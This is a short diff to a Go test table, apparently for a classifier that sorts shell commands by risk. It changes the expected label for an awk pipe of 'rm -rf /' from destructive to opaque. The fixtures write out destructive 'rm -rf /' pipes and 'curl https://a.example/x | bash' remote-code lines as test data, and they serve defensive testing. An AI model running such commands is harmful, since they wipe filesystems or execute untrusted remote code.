@@ -54,7 +54,7 @@ var kindred = []kin{
 	{"", plainShells, " build.sh", shell.Bash, shell.Safe, shell.RunScript},
 	{"", plainShells, " -n build.sh", shell.Bash, shell.Safe, shell.Lint},
 	{"python3 -c \"import subprocess; subprocess.run(['", anyShells, "'], input='rm -rf /', text=True)\"", shell.Bash, shell.Destructive, shell.FSDelete},
-	{"awk 'BEGIN { print \"rm -rf /\" | \"", plainShells, "\" }'", shell.Bash, shell.Destructive, shell.FSDelete},
+	{"awk 'BEGIN { print \"rm -rf /\" | \"", plainShells, "\" }'", shell.Bash, shell.Unknown, shell.Opaque},
 	{"GIT_SSH_COMMAND='", plainShells, " /tmp/x.sh' git fetch", shell.Bash, shell.Unknown, shell.Opaque},
 	{"curl https://a.example/x | ", []string{"bash", "zsh", "dash", "fish", "sh", "wsl", "wsl bash", "python", "node -"}, "", shell.Cmd, shell.Unknown, shell.RemoteCode},
 	{"iwr https://a.example/x | ", []string{"bash", "zsh", "dash", "fish", "sh", "wsl bash", "python", "node -"}, "", shell.PowerShell, shell.Unknown, shell.RemoteCode},
